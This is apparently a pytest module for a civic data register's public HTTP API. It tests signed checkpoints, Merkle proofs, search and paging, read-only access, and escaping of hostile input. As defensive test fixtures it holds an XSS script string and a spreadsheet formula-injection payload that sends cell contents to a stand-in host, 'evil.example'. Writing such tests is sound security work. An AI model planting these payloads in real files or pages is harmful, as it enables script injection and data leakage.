"""The public register over HTTP: a real hub, asked by somebody without a key."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from typing import Any

import pytest

from civicgrid.canonical import dumps
from civicgrid.governance.data_uses import COLUMNS
from civicgrid.hub.openapi import PUBLIC
from civicgrid.hub.published import PUBLISHED
from civicgrid.trust.envelope import Envelope
from civicgrid.trust.merkle import leaf_hash, verify_consistency, verify_inclusion
from civicgrid.trust.note import Checkpoint, Note, NoteKey
from civicgrid.wire import REGISTER, RegisterKey
from unit.governance.entries import APPLICATION, APPROVED, EXAMPLES, PERMIT
from unit.hub.serving import NETWORK, Served, served

pytestmark = pytest.mark.xdist_group("api")
ATOM = "{http://www.w3.org/2005/Atom}"
MARKUP = '<script>alert("1")</script> & ]]> "\''
FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    with served(tmp_path_factory.mktemp("published")) as running:
        engine = running.home.engine()
        register = running.home.register(engine)
        with engine.begin() as connection:
            lead = register.commit(connection, "a-1", "Ada Lovelace", "P-7")
            entries = [entry.model_copy(update={"lead": lead}) if hasattr(entry, "lead") else entry for entry in EXAMPLES]
            hostile = APPLICATION.model_copy(update={"project": "P-9", "title": MARKUP, "organisation": FORMULA})
            more = [hostile, APPROVED.model_copy(update={"project": "P-9"}), PERMIT.model_copy(update={"project": "P-9"})]
            register.append(connection, [*entries, *more], 1_795_000_000)
        engine.dispose()
        yield running


SIZE = len(EXAMPLES) + 3


def get(hub: Served, path: str) -> Any:
    answer = hub.ask("GET", path)
    assert answer.status_code == 200, answer.text
    return answer.json()


def test_every_public_address_is_described_and_answers(hub: Served) -> None:
    assert set(PUBLISHED) == set(PUBLIC)
    paths = hub.ask("GET", "/openapi.json").json()["paths"]
    for path in PUBLIC:
        assert "Signature" not in {each["name"] for each in paths[path]["get"].get("parameters", [])}
        answer = hub.ask("GET", path.replace("{index}", "0") + ("?index=0&first=1" if "proof" in path else ""))
        assert answer.status_code == 200, (path, answer.text)
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_the_checkpoint_holds_under_the_key_that_the_hub_names(hub: Served) -> None:
    log = get(hub, "/register/log")
    statement = Envelope.from_bytes(json.dumps(log["statement"]))
    said = RegisterKey.from_bytes(statement.verify(REGISTER, [hub.home.key().public]))
    assert (said.key, said.network, log["size"]) == (log["key"], NETWORK, SIZE)
    note = Note.parse(hub.ask("GET", "/register/checkpoint").content)
    key = NoteKey.parse(log["key"])
    assert note.opened([key]) == {key: 0}
    assert hub.ask("GET", f"/register/checkpoint?size={SIZE}").text == str(note)
    head = Checkpoint.parse(note.text)
    leaves = get(hub, "/register/entries")["entries"]
    assert len(leaves) == head.size == SIZE
    for index in (0, 7, SIZE - 1):
        said_so = get(hub, f"/register/proof/inclusion?index={index}&size={SIZE}")
        assert said_so["leaf"] == leaf_hash(dumps(leaves[index])).hex()
        proof = [bytes.fromhex(part) for part in said_so["proof"]]
        verify_inclusion(leaf_hash(dumps(leaves[index])), index, SIZE, proof, head.root)
    answer = get(hub, f"/register/proof/consistency?first={SIZE}")
    verify_consistency(SIZE, SIZE, head.root, head.root, [bytes.fromhex(part) for part in answer["proof"]])


def test_entries_by_number_and_one_in_words(hub: Served) -> None:
    some = get(hub, "/register/entries?start=2&end=4")
    assert (some["start"], some["size"], [leaf["index"] for leaf in some["entries"]]) == (2, SIZE, [2, 3])
    one = get(hub, "/register/entries/0")
    assert one["sentence"].startswith("The University of York asked to use health data held at leeds and york.")
    assert list(one["names"].values()) == ["Ada Lovelace"]
    assert one["leaf"]["entry"]["lead"] in one["names"]
    assert "Ada" not in json.dumps(one["leaf"])


def test_search_narrows_and_pages(hub: Served) -> None:
    first = get(hub, "/register/search?site=leeds&most=2")
    assert len(first["entries"]) == 2 and first["older"] is not None
    found, older = [], SIZE
    while older is not None:
        page = get(hub, f"/register/search?site=leeds&most=2&before={older}")
        found += [each["index"] for each in page["entries"]]
        older = page["older"]
    assert found == sorted(set(found), reverse=True)
    assert found[0] == first["entries"][0]["index"]
    assert get(hub, "/register/search?q=nothing+like+it")["entries"] == []
    assert len(get(hub, "/register/search?most=0&kind=decision")["entries"]) == 1


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("entries?start=-1", 400), ("entries?start=x", 400), ("entries?end=99999999999999999999", 400),
        ("entries/x", 400), ("entries/1e3", 400), ("entries/٣", 400), ("entries/999", 404), ("checkpoint?size=3", 404),
        ("checkpoint?size=", 400),
        ("proof/inclusion", 400), ("proof/inclusion?index=999", 400), ("proof/inclusion?index=0&size=999", 404),
        ("proof/consistency", 400), ("proof/consistency?first=9&second=2", 400),
        ("proof/consistency?first=1&second=999", 404),
        ("nothing", 404),
    ],
)  # fmt: skip
def test_what_is_not_there_is_said(hub: Served, path: str, status: int) -> None:
    answer = hub.ask("GET", f"/register/{path}")
    assert answer.status_code == status, answer.text
    assert set(answer.json()) == {"error"}


def test_nothing_can_be_written(hub: Served) -> None:
    for path in PUBLIC:
        for method in ("POST", "PUT", "DELETE", "PATCH"):
            assert hub.ask(method, path.replace("{index}", "0")).status_code == 405


def test_data_uses_are_a_table_that_no_spreadsheet_runs(hub: Served) -> None:
    answer = hub.ask("GET", "/register/data-uses.csv")
    assert answer.headers["content-type"].startswith("text/csv")
    head, *rows = csv.reader(io.StringIO(answer.text))
    assert head == list(COLUMNS)
    assert {row[head.index("Project ID")] for row in rows} == {"P-7", "P-9"}
    assert rows[0][head.index("Applicant name(s)")] == "Ada Lovelace"
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]


def test_the_feed_is_atom_and_markup_in_it_is_text(hub: Served) -> None:
    answer = hub.ask("GET", "/register/feed.atom?project=P-9")
    assert answer.headers["content-type"].startswith("application/atom+xml")
    assert "<script" not in answer.text
    feed = ET.fromstring(answer.text)
    assert feed.tag == f"{ATOM}feed"
    for element in (feed, *feed.findall(f"{ATOM}entry")):
        assert all(element.find(ATOM + name) is not None for name in ("id", "title", "updated"))
    titles = [entry.findtext(f"{ATOM}title") or "" for entry in feed.findall(f"{ATOM}entry")]
    assert len(titles) == 3 and MARKUP in titles[-1]
    ids = [entry.findtext(f"{ATOM}id") or "" for entry in feed.findall(f"{ATOM}entry")]
    assert len(set(ids)) == 3 and all(hub.client.get(each).status_code == 200 for each in ids)
    attacked = hub.ask("GET", '/register/feed.atom?q="><script>')
    assert "<script" not in attacked.text
    link = ET.fromstring(attacked.text).find(f"{ATOM}link")
    assert link is not None and link.attrib.keys() == {"rel", "href"}
